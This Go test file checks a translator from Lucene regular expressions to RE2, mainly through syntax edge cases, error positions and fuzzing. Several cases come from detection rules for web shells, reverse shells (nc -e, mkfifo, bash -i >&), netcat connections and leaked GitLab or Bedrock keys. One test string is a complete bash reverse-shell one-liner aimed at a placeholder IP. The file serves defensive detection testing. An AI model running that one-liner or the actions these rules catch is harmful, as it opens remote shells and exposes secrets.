package scalar

import (
	"errors"
	"regexp"
	"strings"
	"testing"
)

// RLIKE reads Lucene's regular expressions, which differ from Perl's and
// RE2's: where an operand is expected every character is itself, there
// are no anchors, "\s" is four characters, and "~", "&", "#", "@", "<>"
// and '"' are operators.
func TestLuceneRegexpMatches(t *testing.T) {
	cases := []struct {
		pattern string
		yes, no []string
	}{
		// A "*" (or "?", "+", "{", "|") where an operand is expected is a
		// literal: the web-shell rule's "*sh.{1,2}-c*" starts with a star
		// and ends in "c" repeated.
		{`*sh.{1,2}-c*`, []string{"*sh -c", "*sh  -", "*sh\t-ccc", "*shxy-c"}, []string{"bash -c id", "sh -c", "*sh-c", "*sh   -c", "*sh -cx"}},
		{`?a`, []string{"?a"}, []string{"a", "ba"}},
		{`+`, []string{"+"}, []string{""}},
		{`{1}`, []string{"{1}"}, []string{"{"}},
		{`|a`, []string{"|a"}, []string{"a", ""}},
		{`a|*`, []string{"a", "*"}, []string{""}},
		{`(*)`, []string{"*"}, []string{""}},
		{`**`, []string{"", "*", "***"}, []string{"a"}},
		// Repeats.
		{`ab{2}`, []string{"abb"}, []string{"ab", "abbb"}},
		{`ab{2,}`, []string{"abb", "abbbbb"}, []string{"ab"}},
		{`ab{0,1}c`, []string{"ac", "abc"}, []string{"abbc"}},
		{`a{3,1}`, nil, []string{"", "a", "aa", "aaa"}},
		{`a*?`, []string{"", "aaa"}, []string{"b"}}, // (a*)?, not a lazy star
		{`a+*`, []string{"", "a", "aa"}, []string{"b"}},
		{`(ab)+`, []string{"ab", "abab"}, []string{"", "aba"}},
		// Whole strings: no anchors, "^" and "$" are characters.
		{`abc`, []string{"abc"}, []string{"xabc", "abcx"}},
		{`^a$`, []string{"^a$"}, []string{"a"}},
		{`a|bc`, []string{"a", "bc"}, []string{"abc", "ac"}},
		// "." is any character, newlines included.
		{`a.c`, []string{"abc", "a\nc", "aéc"}, []string{"ac", "abbc"}},
		{`.*key.*`, []string{"key", "a\nkey\nb"}, []string{"ke y"}},
		// Classes.
		{`[a-c]+`, []string{"abcabc"}, []string{"abd", ""}},
		{`[^a-c]`, []string{"d", "\n", "é"}, []string{"a", "ab"}},
		{`[-a]`, []string{"-", "a"}, []string{"b"}},
		{`[a\-z]`, []string{"a", "-", "z"}, []string{"b"}},
		{`[.*]`, []string{".", "*"}, []string{"a"}},
		{`[[]`, []string{"["}, []string{"]"}},
		{`[]a]`, []string{"]", "a"}, []string{"b"}},
		{`[!@#$%^&*()_+={[\]]`, []string{"@", "#", "&", "]", "^", "{"}, []string{"a"}},
		// Predefined classes: Lucene's \s is space, tab, newline and
		// carriage return only.
		{`\d+`, []string{"0123"}, []string{"12a", "٣"}},
		{`\D`, []string{"a"}, []string{"1"}},
		{`a\sb`, []string{"a b", "a\tb", "a\nb", "a\rb"}, []string{"a\fb", "a\vb", "ab"}},
		{`\S+`, []string{"ab", "\f"}, []string{"a b"}},
		{`\w+`, []string{"ab_09Z"}, []string{"a-b", "é"}},
		{`\W`, []string{"-", "é"}, []string{"a", "_"}},
		{`[\s,]+`, []string{" , \t"}, []string{"x"}},
		{`[^@\s]+\@[^@\s]+`, []string{"a@b.c"}, []string{"a @b", "a@@b"}},
		// A range's end reads "\x" as x, letters included.
		{`[a-\d]`, []string{"a", "c", "d"}, []string{"e", "0"}},
		// Escapes: a backslash makes any non-letter literal.
		{`\.\*\(\"`, []string{`.*("`}, []string{`x*("`}},
		{`a\\b`, []string{`a\b`}, []string{`ab`}},
		{`\@\#\~\&\<`, []string{`@#~&<`}, nil},
		// Operators that Perl does not have: quoted text, the empty
		// string, the empty language, any string, numeric intervals.
		{`"a.b*"c`, []string{"a.b*c"}, []string{"aXbc", "a.bbc"}},
		{`"a"+`, []string{"a", "aa"}, []string{""}},
		{`"ab"+`, []string{"ab", "abab"}, []string{"abb"}},
		{`x()y`, []string{"xy"}, []string{"x y"}},
		{`#|abc`, []string{"abc"}, []string{""}},
		{`@`, []string{"", "anything\nat all"}, nil},
		{`ab@`, []string{"ab", "abc"}, []string{"a"}},
		{`foo<1-100>`, []string{"foo1", "foo42", "foo100", "foo007", "foo0100"}, []string{"foo0", "foo101", "foo", "foo1a"}},
		{`foo<01-100>`, []string{"foo01", "foo1", "foo100"}, []string{"foo101"}},
		{`<00-15>`, []string{"00", "07", "15"}, []string{"7", "16", "007"}},
		{`<15-00>`, []string{"00", "15"}, []string{"16"}},
		{`<0-9>`, []string{"0", "9"}, []string{"00", "10", ""}},
		{`<0-10>`, []string{"0", "00", "007", "10", "010"}, []string{"11", ""}},
		{`<95-1205>`, []string{"95", "99", "100", "999", "1000", "1205", "0095"}, []string{"94", "1206", "1300", "2000"}},
		{`<123-456>`, []string{"123", "199", "200", "399", "400", "456"}, []string{"122", "457", "500"}},
		// Intersections with a side of few strings keep those the other
		// side matches. The reverse-shell rule's ">&" makes two of its
		// alternatives intersections that match nothing.
		{`a&b`, nil, []string{"", "a", "b", "a&b"}},
		{`[a-c]&b`, []string{"b"}, []string{"a", "c"}},
		{`(ab|cd|ef)&.*d.*`, []string{"cd"}, []string{"ab", "ef"}},
		{`a{1,3}&aa`, []string{"aa"}, []string{"a", "aaa"}},
		{`x(1|2)y&.*2.*z?`, []string{"x2y"}, []string{"x1y"}},
		{`<01-12>&1.`, []string{"10", "11", "12"}, []string{"01", "13"}},
		{`&a`, []string{"&a"}, []string{"a"}}, // where an operand is expected, "&" is itself
		{`.*(nc\s+-e|bash\s+-i\s+>&|0>&1|mkfifo).*`, []string{"x nc -e sh", "mkfifo p"}, []string{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "bash -i >"}},
		// A doubled backslash is a whole class item, never a range's start.
		{`[\\-x]+`, []string{`\`, "-", "x", `\-x`}, []string{"y", "]"}},
		{`.*glpat-[A-Za-z0-9_\\-]+.*`, []string{`glpat-ab_c-d\e`}, []string{"glpat-", "glpat-!"}},
		// Empty pattern: the empty string only.
		{``, []string{""}, []string{"a"}},
		// Corpus patterns, which read alike in both syntaxes.
		{`.*nc.{1,2}[0-9]{1,3}(\.[0-9]{1,3}){3}.{1,2}[0-9]{1,5}.*`, []string{"x nc 10.0.0.1 4444"}, []string{"nc 10.0.0 4444"}},
		{`.*\"Principal\": *\{ *\"AWS\": *\"\*\".*`, []string{`{"Principal": {"AWS": "*"}}`}, []string{`{"Principal": {"AWS": "arn"}}`}},
		{`.*bedrock-api-key-[-A-Za-z0-9+/=._~:]{20,}.*`, []string{"x bedrock-api-key-abcdefghij0123456789~ y"}, []string{"bedrock-api-key-short"}},
	}
	for _, c := range cases {
		expr, err := LuceneRegexp(c.pattern)
		if err != nil {
			t.Errorf("LuceneRegexp(%q): %v", c.pattern, err)
			continue
		}
		re, err := regexp.Compile(anchored(expr))
		if err != nil {
			t.Errorf("LuceneRegexp(%q) = %q, which does not compile: %v", c.pattern, expr, err)
			continue
		}
		for _, s := range c.yes {
			if !re.MatchString(s) {
				t.Errorf("%q should match %q (as %s)", c.pattern, s, expr)
			}
		}
		for _, s := range c.no {
			if re.MatchString(s) {
				t.Errorf("%q should not match %q (as %s)", c.pattern, s, expr)
			}
		}
	}
}

func TestLuceneRegexpErrors(t *testing.T) {
	cases := []struct {
		pattern string
		pos     int
		msg     string
	}{
		{`a(b`, 3, `expected ")"`},
		{`a)`, 1, `unexpected ')'`},
		{`[ab`, 3, `expected "]"`},
		{`[b-a]`, 4, `invalid range`},
		{`a{`, 2, `expected a number`},
		{`a{x}`, 2, `expected a number`},
		{`a{2`, 3, `expected "}"`},
		{`a{2,3`, 5, `expected "}"`},
		{`a{1001}`, 2, `repeat count 1001 is more than 1000`},
		{`a|`, 2, `unexpected end of pattern`},
		{`a\`, 2, `unexpected end of pattern`},
		{`\n`, 0, `unknown escape \n`},
		{`a\b`, 1, `unknown escape \b`},
		{`[\t]`, 1, `unknown escape \t`},
		{`"abc`, 4, `expected a closing '"'`},
		{`a~b`, 1, `complement "~" is not supported`},
		{`a*&b+`, 2, `intersection "&" of two sides that both match endless strings is not supported`},
		{`(x|.*a)&(y|b.*)`, 7, `intersection "&"`},
		{`x<name>`, 1, `named automaton <name> is not supported`},
		{`<1-2`, 4, `expected ">"`},
		{`<-5>`, 0, `bad numeric interval`},
		{`<1-2-3>`, 0, `bad numeric interval`},
		{`<a-b>`, 0, `bad numeric interval`},
	}
	for _, c := range cases {
		_, err := LuceneRegexp(c.pattern)
		var re *RegexpError
		if !errors.As(err, &re) {
			t.Errorf("LuceneRegexp(%q) = %v, want a *RegexpError", c.pattern, err)
			continue
		}
		if re.Pos != c.pos || !strings.Contains(re.Msg, c.msg) {
			t.Errorf("LuceneRegexp(%q): error %q at %d, want %q at %d", c.pattern, re.Msg, re.Pos, c.msg, c.pos)
		}
	}
}

// FuzzLuceneRegexp checks that any pattern either translates into RE2
// that compiles or fails with a position inside the pattern.
func FuzzLuceneRegexp(f *testing.F) {
	for _, s := range []string{`*sh.{1,2}-c*`, `[^@\s]+\@[^@\s]+`, `<1-100>`, `"a"|()#@`, `a{2,}?`, `[]a]`, `\d\W`, `((a)`, `a{3,1}`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, p string) {
		expr, err := LuceneRegexp(p)
		if err != nil {
			var re *RegexpError
			if !errors.As(err, &re) || re.Pos < 0 || re.Pos > len(p) {
				t.Fatalf("LuceneRegexp(%q): %v", p, err)
			}
			return
		}
		if _, err := regexp.Compile(anchored(expr)); err != nil {
			t.Fatalf("LuceneRegexp(%q) = %q, which does not compile: %v", p, expr, err)
		}
	})
}
